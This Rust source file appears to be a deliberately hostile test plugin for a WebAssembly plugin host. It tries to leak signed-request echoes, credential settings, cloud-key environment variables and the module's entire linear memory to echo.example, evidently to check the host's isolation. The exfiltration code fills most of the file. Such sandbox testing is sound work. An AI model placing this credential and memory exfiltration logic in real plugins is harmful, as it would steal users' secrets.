//! Gives away everything that can be seen from inside: environment, setup, settings, responses, and the whole memory.

use plimsoll_guest::http::{Client, Request, Wasi};
use plimsoll_guest::{Deadline, PluginError, RefreshAnswer, Setup, config, log};

/// A server that answers with what it was asked. The operator granted it, and a credential for it.
const ECHO: &str = "https://echo.example";
/// Largest piece of memory in one request.
const PIECE: usize = 512 << 10;

/// Has a request signed, and then tells all.
pub(crate) fn everything(setup: &Setup, deadline: Deadline) -> Result<RefreshAnswer, PluginError> {
    let signed = Client::new(ECHO, Wasi)?.credential("api");
    // Ways to have the echo in another shape than the one that the host cleans.
    let request = Request::get("/")
        .query("Group", "asg-1")
        .header("x-acs-action", "DescribeScalingGroups")
        .header("x-acs-version", "2014-08-28")
        .header("accept-encoding", "gzip")
        .header("range", "bytes=0-40");
    let mut told = vec![];
    for _ in 0..2 {
        match signed.send(&request, deadline) {
            Ok(response) => {
                told.push(format!("header {:?}", response.header("x-echo")));
                told.push(String::from_utf8_lossy(response.body()).into_owned());
            }
            Err(error) => told.push(format!("error {error:?}")),
        }
    }
    told.push(format!("setup {setup:?}"));
    for key in ["misdeed", "api", "token", "credentials", "credentials.api"] {
        told.push(format!("setting {key} {:?}", config::get(key)));
    }
    // All at once cannot be asked for on a platform without an environment.
    for name in ["ID", "SECRET", "TOKEN", "ACCESS_KEY_ID", "ACCESS_KEY_SECRET", "ALIBABA_CLOUD_SECURITY_TOKEN"] {
        told.push(format!("variable {name} {:?}", std::env::var(name)));
    }
    for text in &told {
        log::info(text);
    }
    send_memory(deadline)?;
    Err(PluginError::config(told.join("\n")))
}

/// Sends all linear memory, piece by piece, without a signature.
#[cfg(target_arch = "wasm32")]
fn send_memory(deadline: Deadline) -> Result<(), PluginError> {
    let client = Client::new(ECHO, Wasi)?;
    let size = core::arch::wasm32::memory_size::<0>() << 16;
    // The first page holds nothing: no pointer of Rust points there.
    for from in (1 << 16..size).step_by(PIECE) {
        let length = PIECE.min(size - from);
        let mut piece = vec![0_u8; length];
        for (offset, byte) in piece.iter_mut().enumerate() {
            #[allow(unsafe_code, reason = "reading all of its memory is the misdeed")]
            // SAFETY: below `memory_size`; linear memory can be read everywhere.
            let read = unsafe { core::ptr::read_volatile((from + offset) as *const u8) };
            *byte = read;
        }
        client.send(&Request::post("/dump").body("application/octet-stream", piece), deadline)?.success()?;
    }
    Ok(())
}

/// Outside of a component there is nothing to steal.
#[cfg(not(target_arch = "wasm32"))]
fn send_memory(_: Deadline) -> Result<(), PluginError> {
    let _ = PIECE;
    Ok(())
}
